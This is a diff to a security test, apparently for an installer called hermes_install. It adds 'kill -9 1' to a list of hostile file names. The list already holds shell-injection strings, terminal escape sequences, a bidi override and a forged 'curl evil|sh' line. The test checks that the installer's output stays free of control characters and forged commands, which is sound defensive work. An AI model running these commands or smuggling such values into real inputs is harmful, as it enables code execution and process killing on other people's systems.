@@ -12,7 +12,7 @@ from mallory import STAND_IN, mallory
 
 SECONDS = 60
 
-NAMES = ["x /etc/victim #", "x;touch /root/pasted;", "x\nfix     curl evil|sh", "x\x1b]0;title\x07\x1b[31m", "x$(touch /root/pasted)'`id`", "x\u009b31m\u202e"]
+NAMES = ["x /etc/victim #", "x;touch /root/pasted;", "x\nfix     curl evil|sh", "x\x1b]0;title\x07\x1b[31m", "x$(touch /root/pasted)'`id`", "x\u009b31m\u202e", "x\x1b'`kill -9 1`"]
 
 
 def run() -> None:
@@ -41,7 +41,7 @@ def run() -> None:
         done = hermes_install(*verb)
         raw = [c for c in done.out + done.err if (ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 or c == "\u202e"]
         equal(f"{' '.join(verb)}: control characters", raw, [])
-        forged = [line for line in done.out.splitlines() if line.strip().startswith(("curl", "fix     curl"))]
+        forged = [line for line in done.out.splitlines() if line.strip().startswith(("curl", "fix     curl", "kill -9 1"))]
         equal(f"{' '.join(verb)}: forged lines", forged, [])
     # Every way out, pasted.
     found = hermes_install("doctor")
